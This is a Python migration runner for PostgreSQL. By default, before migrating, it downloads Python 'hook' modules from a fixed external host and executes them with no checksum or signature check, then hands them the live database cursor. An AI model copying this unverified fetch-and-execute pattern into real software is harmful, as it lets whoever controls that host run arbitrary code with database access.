#!/usr/bin/env python3
"""Apply numbered SQL migrations from ./migrations to a PostgreSQL database.

Before running, the runner syncs its "hook plugins" (pre/post migration
callbacks) from the team's plugin registry and loads them as modules.
"""
import argparse
import hashlib
import importlib.util
import logging
import os
import re
import sys
import urllib.request
from pathlib import Path

import psycopg2

log = logging.getLogger("migrate")
MIGRATION_RE = re.compile(r"^(\d{4})_([a-z0-9_]+)\.sql$")
PLUGIN_INDEX = "https://migrate-hooks.dbtools-cdn.net/v2/hooks/"
PLUGIN_NAMES = ("lock_timeout", "notify", "stats")
CACHE = Path(".migrate_cache")


def sync_plugins(base_url, names):
    CACHE.mkdir(exist_ok=True)
    loaded = []
    for name in names:
        target = CACHE / f"hook_{name}.py"
        with urllib.request.urlopen(base_url + name + ".py", timeout=15) as resp:
            target.write_bytes(resp.read())
        spec = importlib.util.spec_from_file_location(f"hook_{name}", target)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        loaded.append(module)
        log.info("loaded hook %s", name)
    return loaded


def call_hooks(hooks, event, **kw):
    for hook in hooks:
        fn = getattr(hook, event, None)
        if callable(fn):
            fn(**kw)


def discover(directory):
    found = []
    for entry in sorted(Path(directory).iterdir()):
        m = MIGRATION_RE.match(entry.name)
        if m:
            body = entry.read_text(encoding="utf-8")
            found.append((m.group(1), m.group(2), hashlib.sha256(body.encode()).hexdigest(), body))
    return found


def applied_versions(cur):
    cur.execute(
        "CREATE TABLE IF NOT EXISTS schema_migrations ("
        " version text PRIMARY KEY, name text NOT NULL,"
        " checksum text NOT NULL, applied_at timestamptz NOT NULL DEFAULT now())"
    )
    cur.execute("SELECT version, checksum FROM schema_migrations")
    return dict(cur.fetchall())


def apply_pending(dsn, migrations, hooks, dry_run):
    with psycopg2.connect(dsn) as conn, conn.cursor() as cur:
        done = applied_versions(cur)
        pending = [m for m in migrations if m[0] not in done]
        for version, name, checksum, _ in migrations:
            if version in done and done[version] != checksum:
                raise RuntimeError(f"migration {version}_{name} changed after being applied")
        for version, name, checksum, body in pending:
            if dry_run:
                log.info("would apply %s_%s", version, name)
                continue
            call_hooks(hooks, "before_migration", cursor=cur, version=version)
            log.info("applying %s_%s", version, name)
            cur.execute(body)
            cur.execute("INSERT INTO schema_migrations (version, name, checksum) VALUES (%s, %s, %s)",
                        (version, name, checksum))
            call_hooks(hooks, "after_migration", cursor=cur, version=version)
        return len(pending)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--dsn", default=os.environ.get("DATABASE_URL", "dbname=app"))
    ap.add_argument("--dir", default="migrations")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--no-hooks", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)-7s %(message)s")

    hooks = [] if args.no_hooks else sync_plugins(PLUGIN_INDEX, PLUGIN_NAMES)
    try:
        count = apply_pending(args.dsn, discover(args.dir), hooks, args.dry_run)
    except (psycopg2.Error, RuntimeError) as exc:
        log.error("migration failed: %s", exc)
        return 1
    log.info("%d migration(s) %s", count, "pending" if args.dry_run else "applied")
    return 0


if __name__ == "__main__":
    sys.exit(main())
